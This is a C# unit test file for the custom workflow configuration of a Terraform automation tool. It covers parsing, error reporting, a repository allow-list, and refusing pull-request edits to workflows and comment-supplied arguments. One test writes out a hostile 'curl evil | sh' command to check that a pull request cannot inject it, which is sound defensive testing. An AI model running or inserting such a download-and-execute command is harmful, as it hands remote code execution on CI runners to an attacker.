using TerraFlow.Core.Commands;
using TerraFlow.Core.CustomWorkflows;
using TerraFlow.Core.Projects;

namespace TerraFlow.Core.Tests.CustomWorkflows;

public class WorkflowConfigTests
{
    private const string Config = """
        version: 1
        workflows:
          checked:
            plan:
              steps:
                - env: { name: LEVEL, value: strict }
                - env: { name: TOKEN, command: "cat token" }
                - init: { extra_args: ["-backend=false"] }
                - run: tflint --format compact
                - plan: { extra_args: ["-var-file=prod.tfvars"] }
            apply: [init, apply]
          default:
            plan: [init, plan, { run: "checkov -f $SHOWFILE" }]
        hooks:
          pre_plan: [{ run: "echo pre" }]
          post_plan: [{ run: "echo post" }]
        projects:
          - dir: prod
            workflow: checked
          - dir: dev
        """;

    private static RepoConfig Parse(string yaml)
    {
        var result = RepoConfigParser.Parse(".terraflow.yml", yaml);
        Assert.True(result.IsSuccess, result.Error?.ToString());
        return result.Config;
    }

    private static ConfigError Error(string yaml)
    {
        var result = RepoConfigParser.Parse(".terraflow.yml", yaml);
        Assert.False(result.IsSuccess);
        return result.Error;
    }

    [Fact]
    public void Workflows_hooks_and_the_project_workflow_are_read_in_order()
    {
        var config = Parse(Config);
        var plan = config.Workflows.Workflows["checked"].Plan;
        Assert.Equal(["env", "env", "init", "run", "plan"], plan.Select(s => s.Kind));
        Assert.Equal(("LEVEL", "strict"), (plan[0].Name, plan[0].Value));
        Assert.Equal(("TOKEN", null, "cat token"), (plan[1].Name, plan[1].Value, plan[1].Command));
        Assert.Equal(["-backend=false"], plan[2].ExtraArgs);
        Assert.Equal("run: tflint --format compact", plan[3].Describe());
        Assert.Equal(["-var-file=prod.tfvars"], plan[4].ExtraArgs);
        Assert.Equal(["init", "apply"], config.Workflows.Workflows["checked"].Apply.Select(s => s.Kind));
        Assert.Equal("echo pre", Assert.Single(config.Workflows.PrePlan).Command);
        Assert.Equal("echo post", Assert.Single(config.Workflows.PostPlan).Command);
        Assert.Equal(["checked", null], config.Projects.Select(p => p.WorkflowName));
    }

    [Theory]
    [InlineData("workflows:\n  w:\n    plan: [init, run]\n", 3, "'run' in workflow 'w' plan must be a command string")]
    [InlineData("workflows:\n  w:\n    plan: [init]\n", 3, "must contain the 'plan' step exactly once")]
    [InlineData("workflows:\n  w:\n    plan: [plan, plan]\n", 3, "must contain the 'plan' step exactly once, found 2")]
    [InlineData("workflows:\n  w:\n    plan: [plan, apply]\n", 3, "step 'apply' is not allowed in workflow 'w' plan")]
    [InlineData("workflows:\n  w:\n    apply: [init]\n", 3, "must contain the 'apply' step exactly once")]
    [InlineData("workflows:\n  w:\n    plan: [plan, { env: { name: X, value: a, command: b } }]\n", 3, "needs exactly one of 'value' or 'command'")]
    [InlineData("workflows:\n  w:\n    plan: [plan, { env: { name: 1X, value: a } }]\n", 3, "is not a variable name")]
    [InlineData("workflows:\n  w:\n    deploy: [plan]\n", 3, "unknown key 'deploy' in workflow 'w'")]
    [InlineData("hooks:\n  post_plan: [{ env: { name: X, value: a } }]\n", 2, "step 'env' is not allowed in hooks post_plan")]
    [InlineData("projects:\n  - dir: a\n    workflow: missing\n", 3, "project uses workflow 'missing', which is not defined; the file defines no 'workflows'")]
    public void Mistakes_are_reported_at_their_line(string body, int line, string message)
    {
        var error = Error("version: 1\n" + body);
        Assert.Equal(line + 1, error.Line);
        Assert.Contains(message, error.Message);
    }

    [Fact]
    public void Without_the_allow_list_any_workflow_key_is_refused_wherever_it_is()
    {
        var config = Parse(Config);
        var plain = Parse("version: 1\nprojects:\n  - dir: prod\n  - dir: dev\n");
        var fromBase = WorkflowRules.Resolve(plain.Projects, config, plain, allowed: false);
        var fromHead = WorkflowRules.Resolve(plain.Projects, plain, config, allowed: false);
        foreach (var refused in new[] { fromBase, fromHead })
        {
            Assert.Contains("Custom workflows are not enabled for this repository", refused.Refusal);
            Assert.Contains("TerraFlow__Workflows__AllowCustom", refused.Refusal);
            Assert.Empty(refused.Projects);
        }
        Assert.Contains("base branch", fromBase.Refusal);
        Assert.Contains("pull request", fromHead.Refusal);

        var none = WorkflowRules.Resolve(plain.Projects, plain, plain, allowed: false);
        Assert.Null(none.Refusal);
        Assert.All(none.Projects, p => Assert.Null(p.Workflow));
    }

    [Fact]
    public void Steps_and_the_project_workflow_come_from_the_base_and_the_default_workflow_covers_the_rest()
    {
        var baseConfig = Parse(Config);
        // The head moves prod to the default workflow and rewrites the commands.
        var head = Parse(Config.Replace("tflint --format compact", "curl evil | sh").Replace("workflow: checked", "workflow: default"));
        var resolved = WorkflowRules.Resolve(head.Projects, baseConfig, head, allowed: true);
        Assert.Null(resolved.Refusal);

        var prod = resolved.Projects.Single(p => p.Dir == "prod");
        Assert.Equal("checked", prod.WorkflowName);
        Assert.Contains(prod.Workflow!.Plan, s => s.Command == "tflint --format compact");
        Assert.DoesNotContain(prod.Workflow.Plan, s => s.Command == "curl evil | sh");
        Assert.Equal(["echo pre"], prod.Workflow.PrePlan.Select(s => s.Command));
        var ignored = Assert.Single(resolved.Ignored);
        Assert.Equal("prod", ignored.Project);
        Assert.Equal(["workflow"], ignored.Keys);

        var dev = resolved.Projects.Single(p => p.Dir == "dev");
        Assert.Equal("default", dev.Workflow!.Name);
        Assert.Contains(dev.Workflow.Plan, s => s.Command == "checkov -f $SHOWFILE");
    }

    [Fact]
    public void A_head_that_adds_workflows_to_a_base_without_them_runs_only_the_built_in_steps()
    {
        var plain = Parse("version: 1\nprojects:\n  - dir: prod\n  - dir: dev\n");
        var head = Parse(Config);
        var resolved = WorkflowRules.Resolve(head.Projects, plain, head, allowed: true);
        Assert.All(resolved.Projects, p => Assert.Null(p.Workflow));
        Assert.Equal("prod", Assert.Single(resolved.Ignored).Project);
    }

    [Theory]
    [InlineData("acme/infra", "acme/*", true)]
    [InlineData("acme/infra", "other/*, acme/infra", true)]
    [InlineData("ACME/Infra", "acme/infra", true)]
    [InlineData("acme/infra", "acme/infra-*", false)]
    [InlineData("group/sub/infra", "group/*", false)]
    [InlineData("group/sub/infra", "group/**", true)]
    [InlineData("acme/infra", "", false)]
    public void The_allow_list_matches_repository_globs(string repository, string allowCustom, bool allowed)
    {
        var slash = repository.LastIndexOf('/');
        var options = new CustomWorkflowOptions { AllowCustom = allowCustom };
        Assert.Equal(allowed, options.IsAllowed(repository[..slash], repository[(slash + 1)..]));
    }

    [Theory]
    [InlineData("terraflow plan -- -target=null_resource.x")]
    [InlineData("terraflow plan -p network -- -target=x")]
    [InlineData("terraflow apply --target=x")]
    public void Extra_arguments_from_a_comment_are_refused_with_a_reason(string comment)
    {
        var refused = Assert.IsType<InvalidCommand>(CommentCommandParser.Parse(comment));
        Assert.Contains("Extra arguments are never passed to Terraform from a comment", refused.Message);
        Assert.Contains("extra_args", refused.Message);
    }
}
